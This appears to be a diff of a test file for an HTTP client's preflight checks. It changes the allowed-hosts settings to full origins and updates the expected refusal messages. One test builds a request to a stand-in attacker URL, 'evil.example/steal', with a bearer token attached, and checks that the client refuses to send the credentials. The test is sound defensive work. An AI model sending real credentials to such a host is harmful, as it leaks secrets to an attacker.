@@ -202,12 +202,12 @@ describe("preflight errors", () => {
     const connection = testConnection(
       api.baseUrl,
       { type: "bearer", values: { token: "tok-123456" } },
-      { allowedHosts: ["api.example.com"] },
+      { allowedHosts: ["https://api.example.com"] },
     );
     const send = createHttpClient(connection).send({ method: "GET", url: "https://evil.example/steal" });
     await expect(send).rejects.toBeInstanceOf(HttpPreflightError);
     await expect(send).rejects.toThrow(
-      `refusing to send the connection's credentials to evil.example:443; allowed hosts: 127.0.0.1:${api.port}, api.example.com`,
+      `refusing to send the connection's credentials to https://evil.example; allowed origins: http://127.0.0.1:${api.port}, https://api.example.com`,
     );
   });
 
@@ -216,7 +216,7 @@ describe("preflight errors", () => {
     const allowed = testConnection(
       api.baseUrl,
       { type: "bearer", values: { token: "tok-123456" } },
-      { allowedHosts: [`localhost:${api.port}`] },
+      { allowedHosts: [`http://localhost:${api.port}`] },
     );
     expect((await createHttpClient(allowed).send({ method: "GET", url: `${other}/x` })).status).toBe(200);
     expect(
